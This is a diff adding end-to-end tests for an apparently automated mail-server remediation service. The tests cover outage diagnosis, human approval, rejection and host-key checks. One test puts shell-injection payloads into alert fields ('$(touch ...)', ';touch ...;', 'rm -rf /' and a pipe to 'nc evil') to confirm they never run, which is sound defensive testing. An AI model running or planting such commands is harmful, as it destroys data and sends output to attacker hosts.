@@ -1,0 +1,352 @@
+import { execFile } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { existsSync } from 'node:fs';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import type { Client } from '@temporalio/client';
+import type { NativeConnection } from '@temporalio/worker';
+import { ImapFlow } from 'imapflow';
+import nodemailer from 'nodemailer';
+import { confirm } from '../../client/incidents';
+import {
+  labBreak,
+  labDown,
+  labHeal,
+  labRelay,
+  labUp,
+  requireLabTools,
+  type LabInfo,
+  type LabScenario,
+} from '../../client/lab';
+import type { mailOutageIncident } from '../../workflows';
+import { incidentWorkflowId, type IncidentState } from '../../workflows/messages';
+import { generateEd25519KeyPair } from '../support/sshd';
+import { startMailmendStack, type MailmendStack } from '../support/mailmend-stack';
+import { waitForState } from '../support/incidents';
+import { freePort } from '../support/processes';
+import { connectClient, connectWorkerConnection, sharedServerAddress, temporalExecutable } from '../support/temporal';
+
+const run = promisify(execFile);
+
+let stateDir: string;
+let lab: LabInfo;
+let client: Client;
+let closeClient: () => Promise<void>;
+let workerConnection: NativeConnection;
+let stack: MailmendStack;
+const serverIds = new Map<string, string>();
+
+function serverIdFor(name: string): string {
+  const id = serverIds.get(name);
+  if (!id) throw new Error(`no server entry for ${name}`);
+  return id;
+}
+
+async function freePorts(count: number): Promise<number[]> {
+  const ports = new Set<number>();
+  while (ports.size < count) ports.add(await freePort());
+  return [...ports];
+}
+
+/** Approves the way an operator would: the real Temporal CLI. */
+async function approveWithTemporalCli(serverId: string, by: string): Promise<void> {
+  const executable = temporalExecutable();
+  if (executable.type !== 'existing-path')
+    throw new Error('the lab tests need the Temporal CLI binary on this machine');
+  await run(executable.path, [
+    'workflow',
+    'signal',
+    '--address',
+    sharedServerAddress(),
+    '--workflow-id',
+    incidentWorkflowId(serverId),
+    '--name',
+    'approve',
+    '--input',
+    JSON.stringify({ by, comment: 'approved from the temporal CLI' }),
+  ]);
+}
+
+/** The test's own SMTP -> IMAP round trip through the lab, independent of mailmend's. */
+async function roundTripThroughLab(): Promise<number> {
+  const token = `e2e-${randomUUID()}`;
+  const started = Date.now();
+  const transport = nodemailer.createTransport({
+    host: '127.0.0.1',
+    port: lab.ports.smtp,
+    secure: false,
+    ignoreTLS: true,
+  });
+  await transport.sendMail({ from: 'tester@lab.test', to: lab.server.canary?.mailbox, subject: token, text: token });
+  transport.close();
+  const imap = new ImapFlow({
+    host: '127.0.0.1',
+    port: lab.ports.imap,
+    secure: false,
+    auth: {
+      user: lab.server.canary?.imapUser ?? '',
+      pass: (await readFile(lab.paths.canaryPasswordFile, 'utf8')).trim(),
+    },
+    logger: false,
+  });
+  await imap.connect();
+  try {
+    while (Date.now() - started < 20_000) {
+      const lock = await imap.getMailboxLock('INBOX');
+      try {
+        const found = await imap.search({ subject: token }, { uid: true });
+        if (found && found.length > 0) return Date.now() - started;
+      } finally {
+        lock.release();
+      }
+      await new Promise((resolve) => setTimeout(resolve, 200));
+    }
+    throw new Error(`round-trip message ${token} did not arrive within 20 s`);
+  } finally {
+    await imap.logout();
+  }
+}
+
+async function postfixRunningOnHost(): Promise<boolean> {
+  return run('postfix', ['-c', lab.server.host.postfixConfigDir, 'status']).then(
+    () => true,
+    () => false,
+  );
+}
+
+function acceptedLogins(sshdLog: string): number {
+  return sshdLog.split('\n').filter((line) => line.includes('Accepted publickey')).length;
+}
+
+function handleFor(serverId: string) {
+  return client.workflow.getHandle<typeof mailOutageIncident>(incidentWorkflowId(serverId));
+}
+
+function report(line: string): void {
+  process.stdout.write(`[lab e2e] ${line}\n`);
+}
+
+beforeAll(async () => {
+  requireLabTools();
+  if (process.getuid?.() !== 0) throw new Error('the lab tests need root: they start Postfix, Dovecot and sshd');
+  stateDir = await mkdtemp(path.join(os.tmpdir(), 'mailmend-e2e-'));
+  const [smtpPort, imapPort, sshPort, relayPort] = (await freePorts(4)) as [number, number, number, number];
+  const started = Date.now();
+  lab = await labUp({ stateDir, smtpPort, imapPort, sshPort, relayPort, serverId: 'lab-e2e' });
+  report(`lab up in ${Date.now() - started} ms`);
+  ({ client, close: closeClient } = await connectClient());
+  workerConnection = await connectWorkerConnection();
+
+  const { publicKey: otherHostKey } = await generateEd25519KeyPair(stateDir, 'not-the-lab-host-key');
+  const names = [
+    'postfix-stopped',
+    'dovecot-stopped',
+    'postfix-config-broken',
+    'deferred-backlog',
+    'rejected',
+    'metachars',
+    'host-key',
+  ];
+  for (const name of names) serverIds.set(name, `lab-${name}-${randomUUID().slice(0, 6)}`);
+  const servers = names.map((name) => ({
+    ...lab.server,
+    id: serverIdFor(name),
+    aliases: [],
+    ...(name === 'host-key' && lab.server.ssh ? { ssh: { ...lab.server.ssh, hostKey: otherHostKey } } : {}),
+  }));
+  stack = await startMailmendStack({ client, workerConnection, servers, policies: { maxVerificationAttempts: 2 } });
+}, 120_000);
+
+afterEach(async () => {
+  if (stateDir) await labHeal(stateDir);
+}, 120_000);
+
+afterAll(async () => {
+  await stack?.stop();
+  await closeClient?.();
+  await workerConnection?.close();
+  if (stateDir) {
+    await labDown(stateDir);
+    await rm(stateDir, { recursive: true, force: true });
+  }
+}, 120_000);
+
+interface ScenarioExpectation {
+  scenario: LabScenario;
+  rootCause: RegExp;
+  evidence: RegExp;
+  actionId: string;
+  /** What an operator waits for before approving, e.g. the upstream relay coming back. */
+  beforeApproval?: () => Promise<void>;
+}
+
+const scenarios: ScenarioExpectation[] = [
+  {
+    scenario: 'postfix-stopped',
+    rootCause: /Postfix is not running/,
+    evidence: /postfix status: `postfix -c \S+ status` exit [1-9]/,
+    actionId: 'start-postfix',
+  },
+  {
+    scenario: 'dovecot-stopped',
+    rootCause: /Dovecot is not running/,
+    evidence: /doveconf -n: `doveconf -c \S+ -n` exit 0/,
+    actionId: 'start-dovecot',
+  },
+  {
+    scenario: 'postfix-config-broken',
+    rootCause:
+      /Postfix refuses to start: its configuration changed since the known-good copy .*main\.cf.* `postfix check` fails/,
+    evidence:
+      /main\.cf differs from the known-good copy.*backup \S*main\.cf\.bak-\d{8}T\d{6}.*\+daemon_directory = \/usr\/libexec\/postfix/,
+    actionId: 'restore-postfix-config',
+  },
+  {
+    scenario: 'deferred-backlog',
+    rootCause: /deferred queue \(5 messages.*because the relay \S+ cannot be reached/,
+    evidence: /delay reason: .*(Connection refused|connect to)/,
+    actionId: 'flush-postfix-queue',
+    beforeApproval: () => labRelay(stateDir, 'start').then(() => undefined),
+  },
+];
+
+describe('an outage fixed end to end on the lab', () => {
+  test.each(scenarios)('$scenario', async ({ scenario, rootCause, evidence, actionId, beforeApproval }) => {
+    const serverId = serverIdFor(scenario);
+    await labBreak(stateDir, scenario);
+
+    const alertedAt = Date.now();
+    const response = await stack.postAlert({ server: serverId, alertname: 'MailServerDown' });
+    expect(response.status).toBe(202);
+    const handle = handleFor(serverId);
+    const phases: string[] = [];
+    const diagnosed = await waitForState(
+      handle,
+      (state) => {
+        if (phases.at(-1) !== state.phase) phases.push(state.phase);
+        return state.phase === 'awaiting-approval';
+      },
+      90_000,
+    );
+    const alertToDiagnosisMs = Date.parse(diagnosed.diagnosis?.diagnosedAt ?? '') - alertedAt;
+    expect(diagnosed.diagnosis?.rootCause).toMatch(rootCause);
+    expect(diagnosed.diagnosis?.evidence.join('\n')).toMatch(evidence);
+    expect(diagnosed.pendingApproval?.actionId).toBe(actionId);
+
+    await beforeApproval?.();
+    const approvedAt = Date.now();
+    await approveWithTemporalCli(serverId, 'alice');
+    const verified = await waitForState(
+      handle,
+      (state) => {
+        if (phases.at(-1) !== state.phase) phases.push(state.phase);
+        return state.roundTrip?.ok === true;
+      },
+      120_000,
+    );
+    const approvalToVerifiedMs = Date.now() - approvedAt;
+    expect(verified.phase).toBe('verification');
+    const testRoundTripMs = await roundTripThroughLab();
+
+    await confirm(client, serverId, { by: 'alice' });
+    await confirm(client, serverId, { by: 'carol' });
+    const final: IncidentState = await handle.result();
+    expect(final.outcome).toBe('closed');
+    expect(phases).toEqual(expect.arrayContaining(['awaiting-approval', 'verification']));
+
+    const remediation = final.remediations.at(-1);
+    expect(remediation?.actionId).toBe(actionId);
+    expect(remediation?.commands?.length).toBeGreaterThan(0);
+    const markdown = await readFile(final.report?.markdownPath ?? '', 'utf8');
+    for (const command of remediation?.commands ?? []) {
+      expect(final.timeline).toContainEqual(
+        expect.objectContaining({
+          event: `ran on the host: ${command.command}`,
+          outcome: expect.stringMatching(/^exit \d+/),
+        }),
+      );
+      expect(markdown).toContain(command.command);
+    }
+    const resolved = stack.chatSink.requests.filter(
+      (request) =>
+        (request.body as { mailmend?: { kind?: string; serverId?: string } }).mailmend?.serverId === serverId,
+    );
+    expect(resolved.map((request) => (request.body as { mailmend: { kind: string } }).mailmend.kind)).toContain(
+      'resolved',
+    );
+    const itMail = await stack.mailSink.waitForMail(
+      (mail) =>
+        mail.headers.get('x-mailmend-incident') === incidentWorkflowId(serverId) &&
+        /resolved/i.test(mail.headers.get('subject') ?? ''),
+    );
+    expect(itMail.text).toMatch(rootCause.source.includes('Postfix') ? /Postfix/ : /./);
+
+    report(
+      `${scenario}: alert->diagnosis ${alertToDiagnosisMs} ms, approval->verified ${approvalToVerifiedMs} ms, ` +
+        `mailmend round trip ${final.roundTrip?.roundTripMs} ms, test round trip ${testRoundTripMs} ms`,
+    );
+  });
+
+  test('a rejected fix runs nothing on the host', async () => {
+    const serverId = serverIdFor('rejected');
+    await labBreak(stateDir, 'postfix-stopped');
+    const mainCfBefore = await readFile(path.join(lab.server.host.postfixConfigDir, 'main.cf'), 'utf8');
+    expect((await stack.postAlert({ server: serverId })).status).toBe(202);
+    const handle = handleFor(serverId);
+    await waitForState(handle, (state) => state.phase === 'awaiting-approval', 90_000);
+    await handle.signal('reject', { by: 'bob', reason: 'not during the board meeting' });
+    await waitForState(handle, (state) => state.phase === 'awaiting-approval' && state.rejections === 1, 90_000);
+    await handle.signal('reject', { by: 'alice', reason: 'we fix it by hand' });
+    const final = await handle.result();
+
+    expect(final.outcome).toBe('escalated');
+    expect(final.outcomeReason).toBe('the fix was rejected 2 times, last by alice');
+    expect(final.remediations).toEqual([]);
+    expect(await postfixRunningOnHost()).toBe(false);
+    expect(await readFile(path.join(lab.server.host.postfixConfigDir, 'main.cf'), 'utf8')).toBe(mainCfBefore);
+    const postfixLog = await readFile(lab.paths.postfixLog, 'utf8');
+    expect(postfixLog.slice(postfixLog.lastIndexOf('stopping the Postfix mail system'))).not.toMatch(
+      /starting the Postfix mail system/,
+    );
+  });
+
+  test('a changed host key stops the procedure before anything runs', async () => {
+    const serverId = serverIdFor('host-key');
+    await labBreak(stateDir, 'postfix-stopped');
+    const loginsBefore = acceptedLogins(await readFile(lab.paths.sshdLog, 'utf8'));
+    expect((await stack.postAlert({ server: serverId })).status).toBe(202);
+    const final = await handleFor(serverId).result();
+
+    expect(final.outcome).toBe('escalated');
+    expect(final.outcomeReason).toMatch(/^HostKeyMismatch: .*SHA256:/);
+    expect(final.remediations).toEqual([]);
+    expect(acceptedLogins(await readFile(lab.paths.sshdLog, 'utf8'))).toBe(loginsBefore);
+    expect(await postfixRunningOnHost()).toBe(false);
+  });
+
+  test('alert labels holding shell metacharacters change nothing on the host', async () => {
+    const serverId = serverIdFor('metachars');
+    const marker = path.join(os.tmpdir(), `mailmend-pwned-${randomUUID()}`);
+    await labBreak(stateDir, 'postfix-stopped');
+    const response = await stack.postAlert(
+      { server: serverId, alertname: `MailDown$(touch ${marker})`, mailbox_hint: `;touch ${marker};` },
+      { summary: `\`touch ${marker}\` && rm -rf / | nc evil 1` },
+    );
+    expect(response.status).toBe(202);
+    const handle = handleFor(serverId);
+    await waitForState(handle, (state) => state.phase === 'awaiting-approval', 90_000);
+    await approveWithTemporalCli(serverId, 'bob');
+    await waitForState(handle, (state) => state.roundTrip?.ok === true, 120_000);
+    await confirm(client, serverId, { by: 'alice' });
+    await confirm(client, serverId, { by: 'bob' });
+    const final = await handle.result();
+
+    expect(final.outcome).toBe('closed');
+    expect(existsSync(marker)).toBe(false);
+    const commands = final.remediations.flatMap((result) => result.commands ?? []).map((command) => command.command);
+    expect(commands.join('\n')).not.toContain(marker);
+    expect(stack.logLines.join('\n')).not.toMatch(/pwned.*(exit|spawn)/);
+  });
+});
